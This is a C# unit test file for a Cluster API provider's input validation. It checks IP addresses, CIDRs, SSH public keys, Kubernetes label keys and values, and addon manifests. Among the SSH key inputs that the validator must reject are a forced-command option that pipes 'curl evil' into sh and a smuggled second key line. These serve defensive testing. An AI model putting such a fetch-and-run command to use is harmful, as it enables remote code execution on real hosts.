using Nutanix.Capi.Validation;

namespace Nutanix.Capi.Tests;

/// <summary>The strict input checks behind the provider's plan-time validation.</summary>
public sealed class InputValidationTests
{
    [Theory]
    [InlineData("10.40.0.10")]
    [InlineData("0.0.0.0")]
    [InlineData("255.255.255.255")]
    [InlineData("2001:db8::1")]
    [InlineData("::1")]
    [InlineData("fe80::1:2")]
    public void CanonicalAddressesAreAccepted(string text)
    {
        Assert.Null(StrictIp.AddressProblem(text));
        Assert.True(StrictIp.TryParse(text, out var ip));
        Assert.Equal(text, ip.ToString());
    }

    [Theory]
    [InlineData("10.40.0", "short forms")]
    [InlineData("10.040.0.1", "leading zero")]
    [InlineData("010.1.1.1", "write 10")]
    [InlineData("0x0a.0.0.1", "decimal number")]
    [InlineData("167772161", "four decimal numbers")]
    [InlineData("10.40.0.256", "0–255")]
    [InlineData("10.40.0.1 ", "decimal number")]
    [InlineData("2001:DB8::1", "write it as \"2001:db8::1\"")]
    [InlineData("2001:db8:0:0:0:0:0:1", "write it as \"2001:db8::1\"")]
    [InlineData("fe80::1%eth0", "zone id")]
    [InlineData("[::1]", "brackets")]
    [InlineData("::ffff:10.0.0.1", "write the IPv4 address \"10.0.0.1\"")]
    [InlineData("::ffff:10.0.0.01", "leading zero")]
    [InlineData("", "four decimal numbers")]
    public void SloppyAddressesAreRefusedWithTheFix(string text, string expected)
    {
        var problem = StrictIp.AddressProblem(text);
        Assert.NotNull(problem);
        Assert.Contains(expected, problem, StringComparison.Ordinal);
        Assert.False(StrictIp.TryParse(text, out _));
    }

    [Theory]
    [InlineData("172.20.0.0/16", null)]
    [InlineData("fd00:10::/64", null)]
    [InlineData("172.20.0.0/33", "0–32")]
    [InlineData("172.20.0.0/016", "without leading zeros")]
    [InlineData("172.20/16", "short forms")]
    [InlineData("172.20.1.0/16", "the network is \"172.20.0.0/16\"")]
    [InlineData("172.20.0.0", "no prefix length")]
    public void Cidrs(string text, string? expected)
    {
        var problem = StrictIp.CidrProblem(text);
        if (expected is null) Assert.Null(problem);
        else Assert.Contains(expected, problem, StringComparison.Ordinal);
    }

    /// <summary>Keys written by ssh-keygen 9 (ssh-keygen -t ed25519 / -t ecdsa -b 256).</summary>
    public const string Ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG7P0S9M5NnJvsIeTRHysRnvNZcazSl2PPornTSeLJQj ops@example.com";
    public const string Ecdsa = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBPxOCGL71X4eb6c5QLzUGmJU5Q5Ytg0ZsSCBeclcZQwa08vJGtHz10r6bBndI3FVO80QQ3aU1BarH4gUrtVOud0=";

    [Theory]
    [InlineData(Ed25519)]
    [InlineData(Ecdsa)]
    [InlineData("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG7P0S9M5NnJvsIeTRHysRnvNZcazSl2PPornTSeLJQj")]
    [InlineData("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG7P0S9M5NnJvsIeTRHysRnvNZcazSl2PPornTSeLJQj first last (laptop)")]
    public void OpenSshPublicKeysAreAccepted(string key) => Assert.Null(SshPublicKey.Problem(key));

    [Theory]
    [InlineData(Ed25519 + "\n", "single line")]
    [InlineData(Ed25519 + "\nssh-ed25519 AAAA evil", "several lines")]
    [InlineData(Ed25519 + "\r", "several lines")]
    [InlineData("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG7P0S9M5NnJvsIeTRHysRnvNZcazSl2PPornTSeLJQj a\u0000b", "control character")]
    [InlineData("command=\"curl evil|sh\" " + Ed25519, "options")]
    [InlineData("no-pty,from=\"10.0.0.0/8\" " + Ed25519, "options")]
    [InlineData("ssh-ed25519", "no base64 key")]
    [InlineData("ssh-ed25519 not*base64", "not valid base64")]
    [InlineData("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIG7P0S9M5NnJvsIeTRHysRnvNZcazSl2PPornTSeLJQj", "does not hold a ssh-rsa key")]
    [InlineData("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyOnly", "not valid base64")]
    [InlineData("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAEEV4YW1wbGVLZXlPbmx5", "wrong length")]
    [InlineData("pgp-key AAAA", "unknown key type")]
    [InlineData("", "empty")]
    [InlineData(" " + Ed25519, "whitespace")]
    public void OtherEntriesAreRefused(string key, string expected)
    {
        var problem = SshPublicKey.Problem(key);
        Assert.NotNull(problem);
        Assert.Contains(expected, problem, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("dedicated", null)]
    [InlineData("example.com/gpu", null)]
    [InlineData("node-role.kubernetes.io/worker", null)]
    [InlineData("", "empty")]
    [InlineData("-bad", "not a valid key")]
    [InlineData("Example.com/gpu", "not a valid key")]
    [InlineData("a/b/c", "not a valid key")]
    [InlineData("/gpu", "not a valid key")]
    [InlineData("example.com/", "not a valid key")]
    public void Keys(string key, string? expected)
    {
        var problem = KubernetesMetadata.KeyProblem(key);
        if (expected is null) Assert.Null(problem);
        else Assert.Contains(expected, problem, StringComparison.Ordinal);
    }

    [Fact]
    public void KeyNamePartsAreAtMost63Characters()
    {
        Assert.Null(KubernetesMetadata.KeyProblem(new string('a', 63)));
        Assert.NotNull(KubernetesMetadata.KeyProblem(new string('a', 64)));
        Assert.NotNull(KubernetesMetadata.KeyProblem(new string('a', 254) + "/x"));
    }

    [Theory]
    [InlineData("", null)]
    [InlineData("gpu-a100", null)]
    [InlineData("a b", "not a valid value")]
    [InlineData("-x", "not a valid value")]
    [InlineData("line\nbreak", "not a valid value")]
    public void LabelValues(string value, string? expected)
    {
        var problem = KubernetesMetadata.LabelValueProblem(value);
        if (expected is null) Assert.Null(problem);
        else Assert.Contains(expected, problem, StringComparison.Ordinal);
        Assert.Contains("at most 63", KubernetesMetadata.LabelValueProblem(new string('v', 64)), StringComparison.Ordinal);
    }

    [Fact]
    public void AddonManifests()
    {
        Assert.Null(AddonManifestsCheck.Problem("cni", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: a\n---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n"));
        Assert.Contains("not valid YAML: syntax error at line", AddonManifestsCheck.Problem("cni", "apiVersion: v1\nkind: [unterminated\n"), StringComparison.Ordinal);
        Assert.Contains("document 2 of the manifests is not a Kubernetes object", AddonManifestsCheck.Problem("cni", "apiVersion: v1\nkind: A\n---\n- a list\n"), StringComparison.Ordinal);
        Assert.Contains("no document", AddonManifestsCheck.Problem("cni", "# only a comment\n"), StringComparison.Ordinal);
        var big = "apiVersion: v1\nkind: ConfigMap\ndata:\n  k: " + new string('x', AddonManifestsCheck.MaxConfigMapDataBytes) + "\n";
        Assert.Contains("at most 1048576 bytes (1 MiB)", AddonManifestsCheck.Problem("cni", big), StringComparison.Ordinal);
        var secretDuplicate = AddonManifestsCheck.Problem("cni", "apiVersion: v1\nkind: Secret\nstringData:\n  token: s3cr3t-token\n  token: s3cr3t-token\n");
        Assert.Contains("duplicate mapping key at line", secretDuplicate, StringComparison.Ordinal);
        Assert.DoesNotContain("s3cr3t", secretDuplicate, StringComparison.Ordinal);
    }
}
